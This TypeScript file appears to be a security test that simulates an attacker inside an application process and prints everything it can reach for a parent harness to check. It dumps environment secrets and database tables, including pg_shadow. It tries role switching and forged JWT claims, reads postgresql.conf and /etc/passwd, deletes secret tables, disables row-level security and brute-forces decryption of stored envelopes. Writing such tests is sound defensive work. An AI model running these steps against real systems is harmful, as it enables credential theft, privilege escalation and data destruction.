/**
 * Somebody who runs code inside a process of the hub: has its environment and its database login, and
 * takes what can be taken. Prints every row and every opened value; its parent looks through them.
 */
import postgres from 'postgres';
import { keyRing, openEnvelope } from '../../../lib/security/open-envelope.ts';

const urls = Object.values(process.env).filter((value) => /^postgres(ql)?:/.test(value ?? ''));
const keys = Object.values(process.env).filter((value) => /^[A-Za-z0-9_-]{43}$/.test(value ?? ''));
const ids = new Set<string>();
const envelopes = new Map<string, Buffer>();
const fields = [
  'credential',
  'client_secret',
  'pkce_verifier',
  'authorization_code',
  'authorization_request',
  'exchanged_token',
  'webhook_secret',
  'mail.content',
];
const say = (what: string, value: unknown): void => {
  process.stdout.write(`${JSON.stringify({ what, value })}\n`);
};

function collect(value: unknown): void {
  for (const [id] of JSON.stringify(value).matchAll(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g)) {
    ids.add(id);
  }
  for (const [, hex = ''] of JSON.stringify(value).matchAll(/\\\\x([0-9a-f]{100,})/g)) {
    envelopes.set(hex, Buffer.from(hex, 'hex'));
  }
}

/** Each statement in a transaction of its own; what is refused is refused. */
async function attempt(sql: postgres.Sql, before: string[], statement: string): Promise<void> {
  try {
    const rows = await sql.begin(async (tx) => {
      for (const line of before) await tx.unsafe(line);
      return tx.unsafe(statement);
    });
    if (rows.length > 0) say(statement, rows);
    collect(rows);
  } catch {
    // Refused.
  }
}

async function plunder(sql: postgres.Sql): Promise<void> {
  const tables = await sql<{ name: string }[]>`
    select format('%I.%I', n.nspname, c.relname) as name from pg_class c
    join pg_namespace n on n.oid = c.relnamespace
    where c.relkind in ('r', 'v', 'm', 'p')
      and (n.nspname not in ('pg_catalog', 'information_schema', 'pg_toast')
        or c.relname in ('pg_authid', 'pg_shadow', 'pg_stat_activity', 'pg_settings', 'pg_largeobject',
          'pg_statistic', 'pg_stats', 'pg_user_mapping'))`;
  const functions = await sql<{ call: string }[]>`
    select format('%I.%I()', n.nspname, p.proname) as call from pg_proc p
    join pg_namespace n on n.oid = p.pronamespace
    where n.nspname not in ('pg_catalog', 'information_schema') and p.pronargs = p.pronargdefaults
      and p.prorettype <> 'trigger'::regtype`;
  const people = await sql<{ sub: string; session_id: string }[]>`
    select user_id as sub, id as session_id from private.sessions`.catch(() => []);
  const claims = people.map((one) => `set local request.jwt.claims = '${JSON.stringify(one)}'`);
  const guises = [
    [],
    ...['patchbay_worker', 'patchbay_migrate', 'postgres', 'service_role', 'authenticated'].map(
      (role) => [`set local role ${role}`],
    ),
    ...claims.map((line) => [line, 'set local role hub_user']),
    ...claims.map((line) => [line, 'set local role authenticated']),
  ];
  for (const guise of guises) {
    for (const { name } of tables)
      await attempt(sql, guise, `select t::text from ${name} t limit 500`);
    for (const { call } of functions) await attempt(sql, guise, `select ${call}::text`);
    await attempt(sql, guise, `select pg_read_file('postgresql.conf')`);
    await attempt(sql, guise, `select lo_import('/etc/passwd')`);
    for (const secret of ['credentials', 'app_secrets']) {
      await attempt(sql, guise, `delete from private.${secret} returning *`);
      await attempt(sql, guise, `update private.${secret} set key_id = key_id returning *`);
      await attempt(sql, guise, `create policy mine on private.${secret} for select using (true)`);
      await attempt(sql, guise, `alter table private.${secret} disable row level security`);
    }
  }
}

/** Every key at hand on every value at hand, in every place it could belong to. */
function crack(): void {
  for (const key of keys) {
    for (const [hex, envelope] of envelopes) {
      for (const workspaceId of ids) {
        for (const ownerId of ids) {
          for (const field of fields) {
            try {
              const opened = openEnvelope(keyRing([key ?? '']), envelope, {
                workspaceId,
                ownerId,
                field,
              });
              say(`opened ${field} ${hex.slice(0, 16)}`, opened.toString('utf8'));
            } catch {
              // Not this one.
            }
          }
        }
      }
    }
  }
}

say('environment', process.env);
for (const url of urls) {
  const sql = postgres(url ?? '', { max: 1, onnotice: () => undefined });
  await plunder(sql);
  await sql.end({ timeout: 5 });
}
crack();
